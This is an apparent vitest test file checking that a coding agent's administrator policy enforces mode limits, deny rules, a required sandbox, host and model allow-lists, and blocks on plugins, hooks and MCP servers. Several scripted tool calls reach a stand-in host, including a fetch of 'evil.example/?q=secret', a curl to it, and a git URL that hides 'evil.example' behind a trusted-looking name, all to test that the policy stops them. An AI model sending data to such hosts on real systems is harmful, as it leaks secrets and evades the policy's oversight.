import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import type { AgentTool } from "@gyre/agent";
import { call, scriptedModel, type ScriptStep } from "@gyre/ai/testing";
import { createSession } from "@gyre/sessions";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type CodingAgent, type CodingAgentOptions, createCodingAgent } from "../index.ts";
import { openModels } from "../models/models.ts";
import { makePolicy, removePolicies, writePolicy } from "../testing/policy-file.ts";

const MCP_SERVER = fileURLToPath(
  new URL("../../../tools/src/testing/mcp-server.mjs", import.meta.url),
);

let home = "";
let cwd = "";
let agents: CodingAgent[] = [];
let servers: Server[] = [];
let warnings: string[] = [];

beforeEach(() => {
  home = realpathSync(mkdtempSync(join(tmpdir(), "gyre-policy-agent-")));
  cwd = join(home, "project");
  mkdirSync(cwd);
});
afterEach(async () => {
  for (const agent of agents) await agent.close();
  for (const server of servers) server.close();
  [agents, servers, warnings] = [[], [], []];
  rmSync(home, { recursive: true, force: true });
  removePolicies();
});

const environment = (): Record<string, string | undefined> => ({
  PATH: process.env["PATH"],
  HOME: home,
  XDG_STATE_HOME: join(home, "state"),
  XDG_CONFIG_HOME: join(home, "config"),
});

/** An agent under a policy. */
async function open(
  policy: unknown,
  script: readonly ScriptStep[] = ["Hello."],
  options: CodingAgentOptions = {},
): Promise<CodingAgent> {
  const model = scriptedModel([...script]);
  const agent = await createCodingAgent({
    cwd,
    model: model.model,
    protocol: model,
    env: environment(),
    session: "none",
    policy: { path: writePolicy(policy).path },
    onWarning: (text) => void warnings.push(text),
    ...options,
  });
  agents.push(agent);
  return agent;
}

/** Says yes to everything. */
const YES = { approve: () => true } as const;

const denials = ({ denied }: CodingAgent): string[] => denied.map(({ reason }) => reason);

describe("the mode", () => {
  it("is not more than the policy allows, where nothing is said of it", async () => {
    expect((await open({ maxMode: "ask" })).mode).toBe("ask");
    expect((await open({ maxMode: "plan" })).mode).toBe("plan");
  });

  it("of the options is an error", async () => {
    await expect(
      open({ maxMode: "auto-edit" }, [], { permissions: { mode: "auto" } }),
    ).rejects.toThrow(/mode is "auto", which the policy .* does not allow: "auto-edit" is\./);
  });

  it("is not changed to more", async () => {
    const agent = await open({ maxMode: "auto-edit" });
    for (const mode of ["auto", "full"] as const) {
      await expect(agent.setMode(mode)).rejects.toThrow(
        `Mode "${mode}" is not allowed. The policy `,
      );
    }
    expect(agent.mode).not.toBe("full");
    await agent.setMode("auto-edit");
    expect(agent.mode).toBe("auto-edit");
  });

  it("of a session that is resumed is lowered", async () => {
    const path = join(home, "old.jsonl");
    const session = await createSession(path, { cwd });
    await session.append({ type: "settings", settings: { mode: "full" } });
    await session.close();
    const agent = await open({ maxMode: "ask" }, ["Hello."], { session: { path } });
    expect(agent.mode).toBe("ask");
  });
});

describe("rules", () => {
  it("that deny win over rules that allow, full mode and a person", async () => {
    const agent = await open(
      { deny: ["write(secret/**)"] },
      [call("write", { path: "secret/a.txt", content: "a" }), "Done."],
      { permissions: { mode: "full", allow: ["write", "write(secret/a.txt)"], ...YES } },
    );
    await agent.prompt("Write it.");
    expect(existsSync(join(cwd, "secret"))).toBe(false);
    expect(denials(agent)).toEqual(['The rule "write(secret/**)" forbids it.']);
  });

  it("that ask win over rules that allow and full mode, and over an answer for always", async () => {
    const asked: string[] = [];
    const agent = await open(
      { ask: ["write(secret/**)"] },
      [
        call("write", { path: "secret/a.txt", content: "a" }),
        call("write", { path: "secret/b.txt", content: "b" }),
        "Done.",
      ],
      {
        permissions: {
          mode: "full",
          allow: ["write(secret/**)"],
          approve: ({ reason }) => {
            asked.push(reason);
            return { allow: "always", rule: "write(secret/**)", scope: "everywhere" };
          },
        },
      },
    );
    await agent.prompt("Write them.");
    expect(asked).toEqual(Array(2).fill('The rule "write(secret/**)" wants it asked about.'));
  });

  it("that are wrong name the file", async () => {
    await expect(open({ deny: ["shel(rm*)"] })).rejects.toThrow(
      /A rule of the policy .*policy\.json, "shel\(rm\*\)", is wrong: there is no tool "shel"/,
    );
  });
});

describe("a sandbox that is required", () => {
  it("cannot be turned off", async () => {
    await expect(open({ sandbox: "required" }, [], { sandbox: "none" })).rejects.toThrow(
      'sandbox is "none", which the policy',
    );
  });

  it(
    "is not left, whatever the mode, a rule and a person say",
    { tags: "bubblewrap" },
    async () => {
      const agent = await open(
        { sandbox: "required" },
        [call("shell", { command: "touch out", unsandboxed: "Tea." }), "Done."],
        { permissions: { mode: "full", allow: ["shell(unsandboxed: touch out)"], ...YES } },
      );
      await agent.prompt("Touch it.");
      expect(existsSync(join(cwd, "out"))).toBe(false);
      expect(denials(agent)[0]).toMatch(/The policy .* denies commands outside of the sandbox\./);
    },
  );
});

describe("hosts", () => {
  const POLICY = { sandbox: "required", domains: ["*.example.org"] };

  it("that are not listed are denied to fetch before a person is asked", async () => {
    const asked: string[] = [];
    const agent = await open(
      POLICY,
      [call("fetch", { url: "https://evil.example/?q=secret" }), "Done."],
      {
        tools: ["fetch"],
        permissions: {
          mode: "full",
          allow: ["fetch(https://evil.example)"],
          approve: ({ tool }) => asked.push(tool) > 0,
        },
      },
    );
    await agent.prompt("Fetch it.");
    expect(asked).toEqual([]);
    expect(denials(agent)[0]).toMatch(/does not allow to reach https:\/\/evil\.example\//);
  });

  it.each([
    ["https://git.example.org/tea.git", true],
    ["git@git.example.org:tea.git", true],
    ["ssh://git@git.example.org/tea.git", true],
    ["ssh://git@git.example.org:22/tea.git", false],
    ["git@evil.example:tea.git", false],
    ["https://git.example.org@evil.example/tea.git", false],
    ["https://GIT.EXAMPLE.ORG./tea.git", true],
    ["/srv/tea.git", false],
  ])("of a push to %s: %s", async (url, isAllowed) => {
    const { forbids } = (await makePolicy(POLICY)).guards;
    const access = { kind: "network", targets: [url], summary: "" } as const;
    const tool = { name: "git" } as AgentTool;
    expect(forbids(tool, access) === undefined).toBe(isAllowed);
    expect(forbids({ ...tool, name: "mcp__tea__list" }, access)).toBeUndefined();
  });

  it("are not widened by the option network", async () => {
    await expect(open(POLICY, [], { network: true })).rejects.toThrow("network is true, which");
    await expect(open(POLICY, [], { network: ["evil.example"] })).rejects.toThrow("domains is");
    const agent = await open(POLICY, [], { network: ["api.example.org"] });
    expect(agent.mode).toBeDefined();
  });

  it(
    "that are not listed are not reached by a command that a person approves",
    { tags: "bubblewrap" },
    async () => {
      const asked: string[] = [];
      const url = "http://evil.example/tea";
      const agent = await open(
        POLICY,
        [call("shell", { command: `curl -s -o /dev/null -w '%{http_code}' ${url}` }), "Done."],
        { permissions: { mode: "auto", approve: ({ tool }) => asked.push(tool) > 0 } },
      );
      await agent.prompt("Fetch it.");
      const result = agent.state.messages.find(({ role }) => role === "toolResult");
      expect(JSON.stringify(result)).toContain("the policy of the administrator does not have it");
      // The command was asked about, its host was not.
      expect(asked).toEqual(["shell"]);
    },
  );
});

describe("models", () => {
  const settings = { model: "openai/gpt-5.2" };
  const policy = { models: ["anthropic/*", "openai/gpt-5.2"] };

  it("are found by their names as far as they are allowed", async () => {
    const models = await openModels({ settings, env: {}, policy: await makePolicy(policy) });
    expect((await models.current()).id).toBe("gpt-5.2");
    expect((await models.find("sonnet")).provider).toBe("anthropic");
    await expect(models.find("openai/gpt-4o")).rejects.toThrow(
      /The model openai\/gpt-4o is not allowed\. The policy .* allows anthropic\/\*, openai\/gpt-5\.2\./,
    );
    await expect(models.find("groq/new-1")).rejects.toThrow("groq/new-1 is not allowed");
    const providers = new Set((await models.list()).map(({ provider }) => provider));
    expect([...providers].sort()).toEqual(["anthropic", "openai"]);
  });

  it("of fallbacks are checked", async () => {
    const given = { ...settings, fallbackModels: ["google/gemini-pro-latest"] };
    const opening = openModels({ settings: given, env: {}, policy: await makePolicy(policy) });
    await expect(opening).rejects.toThrow("is not allowed");
  });

  it("that are taken by default are of the services that are allowed", async () => {
    const env = { ANTHROPIC_API_KEY: "a", OPENAI_API_KEY: "b", XDG_CONFIG_HOME: home };
    const only = await makePolicy({ models: ["openai/*"] });
    const models = await openModels({ settings: {}, env, policy: only });
    expect((await models.current()).provider).toBe("openai");
  });

  it("that a program gives are checked as well, and the others of an agent", async () => {
    await expect(open({ models: ["anthropic/*"] })).rejects.toThrow("is not allowed");
    const agent = await open({ models: ["scripted/*"] });
    await expect(agent.setModel("openai/gpt-5.2")).rejects.toThrow("is not allowed");
    const oracle = open({ models: ["scripted/*"] }, [], { settings: { oracle: "sonnet" } });
    await expect(oracle).rejects.toThrow("is not allowed");
    const small = open({ models: ["scripted/*"] }, [], { settings: { smallModel: "haiku" } });
    await expect(small).rejects.toThrow("is not allowed");
  });

  it("are not asked at another host, whatever variable names it, and not again and again", async () => {
    let requests = 0;
    const server = createServer((_request, response) => {
      requests++;
      response.end("{}");
    }).listen(0, "127.0.0.1");
    servers.push(server);
    await new Promise((settle) => server.once("listening", settle));
    const { port } = server.address() as AddressInfo;
    const agent = await createCodingAgent({
      cwd,
      model: "anthropic/claude-sonnet-4-5",
      env: {
        ...environment(),
        ANTHROPIC_API_KEY: "sk-ant-test",
        ANTHROPIC_BASE_URL: `http://127.0.0.1:${port}`,
      },
      session: "none",
      policy: { path: writePolicy({ modelHosts: ["api.anthropic.com"] }).path },
    });
    agents.push(agent);
    const end = await agent.prompt("Hello?");
    expect(end.stop).toBe("error");
    expect(JSON.stringify(end.messages)).toContain(
      `does not allow to ask models at 127.0.0.1:${port}`,
    );
    expect(requests).toBe(0);
  });
});

describe("what runs beside the agent", () => {
  it("is not loaded: plugins, hooks and MCP servers are errors of the options", async () => {
    const policy = { mcp: false, plugins: false, hooks: false };
    const mcp = { tea: { command: process.execPath, args: [MCP_SERVER] } };
    await expect(open(policy, [], { mcp })).rejects.toThrow("mcp is ");
    await expect(open(policy, [], { plugins: ["./tea.mjs"] })).rejects.toThrow("plugins is ");
    const hooks = { Stop: [{ command: "touch stopped" }] };
    await expect(open(policy, [], { hooks })).rejects.toThrow("hooks is ");
  });

  it("is not loaded from files either, with a warning", async () => {
    mkdirSync(join(home, "config/gyre"), { recursive: true });
    writeFileSync(
      join(home, "config/gyre/config.json"),
      JSON.stringify({
        mcp: { tea: { command: process.execPath, args: [MCP_SERVER] } },
        hooks: { SessionStart: [{ command: `touch ${join(cwd, "hooked")}` }] },
      }),
    );
    const agent = await open({ mcp: false, hooks: false }, ["Hello."], { settingsFiles: true });
    await agent.prompt("Hello?");
    expect(existsSync(join(cwd, "hooked"))).toBe(false);
    expect(agent.state.tools.filter(({ name }) => name.startsWith("mcp"))).toEqual([]);
    expect(warnings.filter((text) => text.startsWith("user file: "))).toHaveLength(2);
  });

  it("of a project is not trusted", async () => {
    const untrusted = open({ projectTrust: false }, [], { trust: true });
    await expect(untrusted).rejects.toThrow("does not allow to trust projects");
    const servers = { tea: { command: process.execPath, args: [MCP_SERVER] } };
    writeFileSync(join(cwd, ".mcp.json"), JSON.stringify({ mcpServers: servers }));
    const agent = await open({ mcp: false }, ["Hi."], { settingsFiles: true, trust: true });
    expect(agent.state.tools.filter(({ name }) => name.startsWith("mcp"))).toEqual([]);
  });
});

describe("folders", () => {
  it("that are not listed are not worked in", async () => {
    await expect(open({ folders: ["/srv"] })).rejects.toThrow(
      `${cwd} is not a folder to work in. The policy `,
    );
    const inside = await open({ folders: [home] });
    expect(inside.mode).toBeDefined();
  });
});

describe("the option of a program", () => {
  it("names a file, which has to be there", async () => {
    await expect(open({}, [], { policy: { path: "nowhere.json" } })).rejects.toThrow(
      `policy: there is no file ${join(cwd, "nowhere.json")}.`,
    );
  });

  it("may be none", async () => {
    const agent = await open({}, ["Hello."], { policy: "none", permissions: { mode: "full" } });
    expect(agent.mode).toBe("full");
  });
});
